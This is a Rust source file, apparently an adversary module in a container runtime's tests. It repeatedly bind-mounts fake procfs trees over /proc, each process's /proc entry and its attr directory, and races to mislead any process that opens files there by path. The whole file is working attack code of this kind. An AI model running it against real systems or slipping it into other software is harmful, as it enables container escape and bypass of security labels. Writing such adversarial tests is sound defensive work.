// SPDX-License-Identifier: Apache-2.0
//! An attacker in a container that may mount: what it lays over /proc is seen by whoever opens a file there by its path.

#![forbid(unsafe_code)]

use std::fs;
use std::path::Path;

use nix::mount::{MntFlags, MsFlags, mount, umount2};

/// Lays `DIR/written` and `DIR/led`, trees like a procfs, over /proc in turn, and what is in the first over what /proc has of each process,
/// and takes all of that away again, until `DIR/stop` exists.
pub(super) fn overmount(dir: &str) -> Result<(), String> {
    let at = |name: &str| Path::new(dir).join(name);
    while !at("stop").exists() {
        for tree in ["written", "led"] {
            for _ in 0..20 {
                covered(&at(tree), Path::new("/proc"), || {
                    std::thread::yield_now();
                });
            }
        }
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            if entry.file_name().to_string_lossy().parse::<u32>().is_ok() {
                covered(&at("written/self"), &entry.path(), || {
                    covered(&at("written/self/attr"), &entry.path().join("attr"), std::thread::yield_now);
                });
            }
        }
    }
    Ok(())
}

/// While `meanwhile` runs, `tree` is what is seen at `place`. A process that has ended takes its mounts with it.
fn covered(tree: &Path, place: &Path, meanwhile: impl FnOnce()) {
    let laid = mount(Some(tree), place, None::<&str>, MsFlags::MS_BIND, None::<&str>);
    meanwhile();
    if laid.is_ok() {
        umount2(place, MntFlags::MNT_DETACH).ok();
    }
}
